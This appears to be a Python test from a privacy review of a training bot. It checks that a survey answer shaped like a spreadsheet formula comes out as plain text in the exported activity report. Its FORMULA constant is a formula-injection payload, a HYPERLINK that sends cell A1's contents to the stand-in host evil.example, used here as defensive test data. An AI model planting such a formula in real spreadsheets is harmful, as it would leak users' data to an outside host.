"""The privacy review's findings, each reproduced: what a participant typed never runs in a
spreadsheet, never reaches a log, and does not outlive the retention period or an erasure."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
from sqlalchemy import update

from bot.db import SessionFactory
from bot.documents.activity_report import activity_report_xlsx
from bot.models import SurveyResponse
from bot.services.activity import activity_report_view
from tests.after_factories import finished_training
from tests.conftest import JAKARTA

PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
    sessions: SessionFactory,
) -> None:
    training, regs = await finished_training(sessions, ["Siti"], [[1]])
    async with sessions() as session:
        session.add(
            SurveyResponse(
                registration_id=regs[0].id, training_id=training.id, overall=5, material=5,
                trainer=5, helped=FORMULA, started_at=PRINTED, finished_at=PRINTED,
                updated_at=PRINTED,
            )
        )  # fmt: skip
        await session.commit()
        view = await activity_report_view(session, training.id, JAKARTA)
    assert view is not None
    book = openpyxl.load_workbook(io.BytesIO(activity_report_xlsx(view)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    quoted = [cell for cell in cells if cell.value == FORMULA]
    assert quoted and all(cell.data_type == "s" for cell in quoted)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
